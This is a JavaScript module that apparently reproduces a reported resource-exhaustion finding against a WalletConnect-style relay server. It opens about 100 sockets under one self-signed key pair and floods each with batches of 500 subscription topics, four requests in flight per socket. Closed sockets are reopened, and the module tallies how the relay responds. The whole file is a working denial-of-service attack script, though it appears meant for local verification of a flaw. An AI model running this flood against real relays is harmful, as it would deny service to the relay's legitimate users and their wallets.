import { randomBytes } from 'node:crypto'
import { generateKeyPair } from '@walletconnect/relay-auth'
import { signAuthToken } from './connectBenchClient.mjs'
import { createTally } from './createTally.mjs'
import { floodRequests } from './floodRequests.mjs'
import { openAttackSockets } from './openAttackSockets.mjs'

const batch = 500

/**
 * R1 of issue #15: one self-signed key pair opens `sockets` sockets (~100 in the finding), and each socket it
 * gets keeps batch-subscribing 500 topics at a time, alternating 256-character topics (the finding's) with fresh
 * valid 64-hex topics, 4 requests in flight per socket, until the flood ends. A socket the relay closes is
 * reopened while attempts remain. Tallies the upgrades (101 or the HTTP status), the answers (`ok` or the
 * JSON-RPC error code), the close codes, and how many subscriptions the relay granted.
 *
 * @example const r1 = createSubscriptionAttack({ relayUrl, localAddress: '127.0.0.2' }); await r1.open()
 */
export function createSubscriptionAttack({ relayUrl, localAddress, sockets = 100 }) {
  const keyPair = generateKeyPair()
  const upgrades = createTally()
  const answers = createTally()
  const closes = createTally()
  let clients = []
  let attempts = 0
  let subscriptions = 0
  let requests = 0

  const longTopic = () => randomBytes(128).toString('hex')
  const validTopic = () => randomBytes(32).toString('hex')
  const nextRequest = (index) => ({
    method: 'irn_batchSubscribe',
    params: { topics: Array.from({ length: batch }, index % 2 === 0 ? longTopic : validTopic) },
  })
  const onAnswer = (answer) => {
    requests += 1
    if (Array.isArray(answer.result)) {
      subscriptions += answer.result.length
      answers.add('ok')
    } else answers.add(answer.error?.code ?? 'closed')
  }

  async function open(count) {
    attempts += count
    const auth = await signAuthToken(keyPair, relayUrl)
    const { opened } = await openAttackSockets({
      relayUrl,
      localAddress,
      attempts: count,
      concurrency: 10,
      upgrades,
      options: () => ({ keyPair, auth }),
    })
    return opened
  }

  async function floodFrom(client, untilMs) {
    while (performance.now() < untilMs) {
      await floodRequests({ client, window: 4, untilMs, nextRequest, onAnswer })
      if (client.open) return
      closes.add(client.closeCode)
      if (attempts >= 2 * sockets) return
      const [again] = await open(1)
      if (!again) return
      clients.push(again)
      client = again
    }
  }

  return {
    async open() {
      clients = await open(sockets)
    },
    async flood(untilMs) {
      await Promise.all([...clients].map((client) => floodFrom(client, untilMs)))
    },
    async close() {
      await Promise.all(clients.map((client) => client.close()))
    },
    report() {
      return {
        what:
          `1 key pair: ${attempts} socket attempts; on each socket it got, batches of ${batch} subscriptions ` +
          '(256-character topics, then fresh 64-hex ones, alternately), 4 in flight',
        upgrades: upgrades.toJSON(),
        requests,
        answers: answers.toJSON(),
        subscriptionsGranted: subscriptions,
        closes: closes.toJSON(),
      }
    },
  }
}
